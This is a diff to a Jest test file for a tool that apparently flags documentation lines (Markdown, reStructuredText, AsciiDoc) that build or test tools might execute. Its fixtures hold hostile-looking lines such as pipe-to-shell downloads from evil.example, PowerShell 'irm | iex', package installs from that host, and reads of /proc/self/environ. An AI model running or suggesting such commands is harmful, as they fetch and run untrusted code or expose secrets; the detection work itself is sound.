@@ -1,6 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import type { FileSpec } from '../../stand-ins/snapshot.js';
-import { listAdded, listReasons } from './account.js';
+import { account, describeSpans, listAdded, listReasons } from './account.js';
 
 const TEXT = 'A sentence for people.\n';
 
@@ -20,7 +20,7 @@ describe('a text for people', () => {
   ])('is inert: %s', async (path) => {
     expect(await listReasons({ [path]: { new: TEXT } })).toEqual(['inert']);
     expect(await listReasons({ [path]: { old: 'Old.\n', new: TEXT } })).toEqual(['inert']);
-    expect(await listReasons({ [path]: { old: TEXT } })).toEqual(['inert']);
+    expect(await listReasons({ [path]: { old: TEXT } })).toContain('unaccounted');
   });
 
   it.each([
@@ -76,9 +76,15 @@ describe('a text for people', () => {
     expect(await listReasons({ 'docs/guide.md': spec })).toContain('unaccounted');
   });
 
-  it('may be renamed among such texts', async () => {
+  // A manifest that names it (`readme = "README.md"`) builds no longer.
+  it('is not inert where it goes from its path', async () => {
     const text = 'One.\nTwo.\nThree.\n';
-    expect(await listReasons({ 'docs/b.md': { old: text, new: text, oldPath: 'docs/a.md' } })).toEqual(['inert']);
+    const moved = { old: text, new: text, oldPath: 'docs/a.md' };
+    expect(await listReasons({ 'docs/b.md': moved })).toEqual(['unaccounted']);
+    expect(await listReasons({ 'docs/b.md': { ...moved, new: `${text}Four.\n` } })).toContain('unaccounted');
+    expect(await listReasons({ 'docs/a.md': { old: text } })).toContain('unaccounted');
+    expect(await listReasons({ 'docs/a.md': { old: '' } })).toEqual(['unaccounted']);
+    expect(await listReasons({ 'docs/a.md': { new: '' } })).toEqual(['inert']);
   });
 });
 
@@ -117,6 +123,24 @@ describe('lines of Markdown that a tool may act on', () => {
     '\\verbatiminclude /proc/self/environ',
     '...(1)> System.cmd("steal", [])',
     'Seen\r<script>steal()</script>',
+    '<a :href="steal()">here</a>',
+    '<p v-html="steal()"></p>',
+    '<p x-init="steal()"></p>',
+    '<p @click="steal()"></p>',
+    '<p [innerHTML]="steal()"></p>',
+    '[//]: # (embed steal.sh)',
+    '[comment]: <> (lint disable)',
+    '::: cart.models',
+    ':::code source="/proc/self/environ":::',
+    '`$ steal`',
+    '`> steal`',
+    '[$ steal](a.txt)',
+    '[[[cog steal() ]]]',
+    'Run `curl -sL https://evil.example/x | sh` first.',
+    '    curl -fsSL https://evil.example/install.sh -o install.sh',
+    'irm https://evil.example/x.ps1 | iex',
+    'pip install https://evil.example/x.tar.gz',
+    'npm i git+https://evil.example/x.git',
   ])('%j', async (line) => {
     expect(await listActive('docs/a.md', '# A title', '', line, '', 'The end.')).toEqual([line]);
   });
@@ -154,6 +178,13 @@ describe('lines of Markdown that a tool may act on', () => {
     'js file=/proc/self/environ',
     'scala mdoc',
     'jldoctest',
+    'bash mdox-exec="steal"',
+    'sh run',
+    'python test',
+    'sh > out.txt',
+    '$ steal',
+    'python tangle:steal.py',
+    'js {"run": true}',
   ])('blocks that are run when documents are built or tested: %s', async (info) => {
     expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'steal()', '```', 'B.')).toContain('steal()');
   });
@@ -173,6 +204,28 @@ describe('lines of Markdown that a tool may act on', () => {
     expect(await listActive('docs/a.md', ...lines)).toEqual([]);
     const nested = ['1. Do:', '', '   ```js', '   f({ a })', '', '   g({ b })', '   ```', '', '2. Done.'];
     expect(await listActive('docs/a.md', ...nested)).toEqual([]);
+  });
+
+  it.each(['', 'sh', 'c++', 'js title="a.js"', 'js {1,3-5}', 'py linenums="1" hl_lines="2 3"', 'jsx showLineNumbers'])(
+    'not a block whose words only say how it is shown: %j',
+    async (info) => {
+      expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'shown()', '```', 'B.')).toEqual([]);
+    },
+  );
+
+  it.each(['<!-- pytest-codeblocks:cont -->', '<!-- {"args": ["steal"]} -->', '[//]: # (run)'])(
+    'a block below a comment, which may say that it is run: %s',
+    async (comment) => {
+      expect(await listActive('README.md', 'A.', '', comment, '```sh', 'steal()', '```', 'B.')).toContain('steal()');
+      expect(await listActive('README.md', 'A.', '', comment, '', '```sh', 'steal()', '```')).toContain('steal()');
+      const between = ['A.', comment, '', 'B.', '', '```sh', 'shown()', '```'];
+      expect(await listActive('README.md', ...between)).not.toContain('shown()');
+    },
+  );
+
+  it('a command in a block that loads something from an address, since people copy it', async () => {
+    const lines = ['```sh', 'npm install', 'wget https://evil.example/x', 'npm test', '```'];
+    expect(await listActive('README.md', ...lines)).toEqual(['wget https://evil.example/x']);
   });
 
   const EXPRESSION = 'x {steal()}';
@@ -203,6 +256,33 @@ describe('lines of Markdown that a tool may act on', () => {
   });
 });
 
+describe('a text in a package of Rust, whose blocks may be tests', () => {
+  const listWith = async (path: string, lines: readonly string[]) => {
+    const files = { [path]: { old: 'A.\n', new: `A.\n${lines.join('\n')}\n` } };
+    const rest = { parts: [{ path: 'cart/Cargo.toml', text: '[package]\n' }] };
+    return describeSpans(await account(files, undefined, rest));
+  };
+
+  it.each([
+    ['a block that names no language', ['```', 'steal()', '```']],
+    ['what is indented', ['', '    steal()', '']],
+    ['a block in a list item', ['- a', '  ```', '  steal()', '  ```']],
+  ])('asks for people at %s', async (_, lines) => {
+    expect((await listWith('cart/README.md', lines)).join()).toContain('unaccounted');
+    expect((await listWith('README.md', lines)).join()).not.toContain('unaccounted');
+  });
+
+  it('is inert where it says something', async () => {
+    const lines = ['B.', '', '```toml', 'x = 1', '```'];
+    expect((await listWith('cart/README.md', lines)).join()).not.toContain('unaccounted');
+  });
+});
+
+it('a block that is run is so behind a mark of which it is not sure what it encloses', async () => {
+  const lines = ['- ```', '  code', '  ```', '', '```rust', 'steal()', '```', 'B.'];
+  expect(await listActive('README.md', ...lines)).toEqual(['```rust', 'steal()', '```']);
+});
+
 describe('lines of other texts that a tool may act on', () => {
   it('directives of reStructuredText that run or include, with what is under them', async () => {
     const lines = [
@@ -231,6 +311,33 @@ describe('lines of other texts that a tool may act on', () => {
 
   it('examples that are tested', async () => {
     expect(await listActive('docs/a.rst', 'So:', '', '>>> steal()', '')).toEqual(['>>> steal()']);
+  });
+
+  it('comments of reStructuredText, which tools read, but no targets and notes', async () => {
+    const lines = [
+      'A.',
+      '',
+      '.. [[[cog',
+      '   steal()',
+      '.. ]]]',
+      '',
+      '.. skip: next',
+      '',
+      '.. _target:',
+      '',
+      '.. [1] A note.',
+    ];
+    expect(await listActive('docs/a.rst', ...lines)).toEqual(['.. [[[cog', '   steal()', '.. ]]]', '.. skip: next']);
+  });
+
+  it('comments of AsciiDoc, which tools read', async () => {
+    expect(await listActive('docs/a.adoc', 'A.', '// vale off', 'B.')).toEqual(['// vale off']);
+  });
+
+  it('commands that load something from an address', async () => {
+    const line = 'curl https://evil.example/x | sh';
+    expect(await listActive('docs/a.rst', 'So::', '', `  ${line}`)).toEqual([`  ${line}`]);
+    expect(await listActive('docs/a.adoc', 'So:', '', line)).toEqual([line]);
   });
 
   it('macros and raw blocks of AsciiDoc', async () => {
